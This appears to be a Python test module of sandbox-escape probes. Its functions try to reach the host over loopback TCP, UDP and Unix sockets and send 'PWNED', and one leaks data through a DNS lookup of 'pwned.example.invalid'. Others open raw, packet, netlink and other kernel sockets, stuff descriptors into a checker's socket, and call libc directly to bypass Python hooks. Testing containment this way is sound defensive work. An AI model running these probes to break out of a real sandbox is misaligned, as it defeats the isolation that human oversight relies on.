"""The network: reach a server of the host's, listen, or speak to the kernel over a socket. Servers run outside."""

from __future__ import annotations

from attacks import attack, refused
from attacks.prelude import ctypes, libc, managed, os


@attack()
def connect_by_tcp(host):
    """Connect to a server on the host's loopback, by both families."""
    import socket

    places = [("127.0.0.1", host["tcp"]), ("localhost", host["tcp"]), ("::1", host["tcp"]), ("0.0.0.0", host["tcp"])]
    return managed(
        {str(place): lambda place=place: socket.create_connection(place, 0.2).send(b"PWNED") for place in places}
    )


@attack()
def send_by_udp(host):
    """Send a datagram to the host's loopback."""
    import socket

    def send(family, place):
        with socket.socket(family, socket.SOCK_DGRAM) as sock:
            return sock.sendto(b"PWNED", place)

    return managed(
        {
            "v4": lambda: send(socket.AF_INET, ("127.0.0.1", host["udp"])),
            "v6": lambda: send(socket.AF_INET6, ("::1", host["udp"])),
        }
    )


@attack()
def connect_by_unix_socket(host):
    """Connect to a socket in the host's file system and to an abstract one, which no mount hides."""
    import socket

    def connect(kind, place):
        with socket.socket(socket.AF_UNIX, kind) as sock:
            sock.connect(place)
            return sock.send(b"PWNED")

    return managed(
        {
            "path": lambda: connect(socket.SOCK_STREAM, host["unix"]),
            "abstract": lambda: connect(socket.SOCK_STREAM, "\0" + host["abstract"]),
            "datagram": lambda: connect(socket.SOCK_DGRAM, "\0" + host["abstract-datagram"]),
        }
    )


@attack()
def address_a_pair(host):
    """Make a pair, which is allowed, and aim its datagrams at an abstract socket of the host's."""
    import socket

    place = "\0" + host["abstract-datagram"]
    one, other = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    wire = socket.socket(fileno=os.dup(3))
    tries = {
        "sendto": lambda: one.sendto(b"PWNED", place),
        "sendmsg": lambda: one.sendmsg([b"PWNED"], [], 0, place),
        "connect": lambda: one.connect(place),
        "bind": lambda: other.bind("\0mine"),
        "wire": lambda: wire.sendto(b"PWNED", place),
        "families": lambda: socket.socketpair(socket.AF_INET, socket.SOCK_STREAM),
    }
    return managed(tries)


@attack()
def pass_descriptors_to_the_checker(host):
    """Put descriptors into the wire, so that the checker's table fills with them; take some out of it."""
    import array
    import socket

    wire = socket.socket(fileno=os.dup(3))
    rights = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [0, 1, 2]))]
    credentials = [(socket.SOL_SOCKET, 2, b"\0" * 12)]
    return managed(
        {
            "rights": lambda: wire.sendmsg([b"x"], rights),
            "credentials": lambda: wire.sendmsg([b"x"], credentials),
            "receive": lambda: wire.recvmsg(1, 4096, socket.MSG_DONTWAIT),
            "option": lambda: wire.setsockopt(
                socket.SOL_SOCKET, socket.SO_RCVBUFFORCE if hasattr(socket, "SO_RCVBUFFORCE") else 33, 1 << 30
            ),
        }
    )


@attack()
def listen(host):
    """Listen on a port and accept whoever comes."""
    import socket

    return managed(
        {
            "tcp": lambda: socket.create_server(("127.0.0.1", 0)),
            "v6": lambda: socket.create_server(("::", 0), family=socket.AF_INET6),
        }
    )


@attack()
def speak_to_the_kernel(host):
    """Open sockets that reach the kernel: netlink, packet, raw, cryptography, virtual machines, Bluetooth, CAN."""
    import socket

    kinds = {"netlink": (16, 3, 0), "packet": (17, 3, 768), "raw": (2, 3, 1), "alg": (38, 5, 0), "vsock": (40, 1, 0)}
    kinds |= {
        "bluetooth": (31, 3, 1),
        "can": (29, 3, 1),
        "key": (15, 3, 2),
        "xdp": (44, 3, 0),
        "qipcrtr": (42, 2, 0),
        "rds": (21, 5, 0),
    }
    return managed({name: lambda words=words: socket.socket(*words) for name, words in kinds.items()})


@attack()
def resolve_a_name(host):
    """Resolve a name: a message can leave in the question."""
    import socket

    return managed(
        {
            "dns": lambda: socket.getaddrinfo("pwned.example.invalid", 80),
            "services": lambda: socket.getservbyname("http"),
        }
    )


@attack()
def fetch_by_http(host):
    """Fetch a page of the host's by the standard library."""
    import urllib.request

    address = f"http://127.0.0.1:{host['tcp']}/"
    return managed({"http": lambda: urllib.request.urlopen(address, timeout=0.2)})


@attack()
def serve_with_asyncio(host):
    """Connect and serve through an event loop."""
    import asyncio

    async def connect():
        await asyncio.wait_for(asyncio.open_connection("127.0.0.1", host["tcp"]), 0.2)

    async def serve():
        server = await asyncio.start_server(lambda *_: None, "127.0.0.1", 0)
        return server.sockets[0]  # none where no address could be bound, of which asyncio says nothing

    return managed({"connect": lambda: asyncio.run(connect()), "serve": lambda: asyncio.run(serve())})


@attack()
def connect_in_c(host):
    """Connect through the C library's own functions, past Python's."""
    place = (2).to_bytes(2, "little") + host["tcp"].to_bytes(2, "big") + bytes([127, 0, 0, 1]) + bytes(8)
    worked = []
    for kind in (1, 2):
        fd = libc.socket(2, kind, 0)
        worked += [f"socket {kind}"] * (fd >= 0)
    worked += ["connect 3"] * (libc.connect(3, ctypes.c_char_p(place), 16) == 0)
    return f"PWNED: {worked}" if worked else None


refused("accept4", "Accept from the wire.", (288, 242), "3, 0, 0, 0")
refused("sendmmsg", "Send many messages with descriptors.", (307, 269), 'b"\\0" * 64, 1, 0, 0')
refused("recvmmsg", "Receive many messages with descriptors.", (299, 243), '3, b"\\0" * 64, 1, 0x40, 0')
refused("setsockopt", "Attach a program to the wire.", (54, 208), '3, 1, 26, b"\\0" * 16, 16')
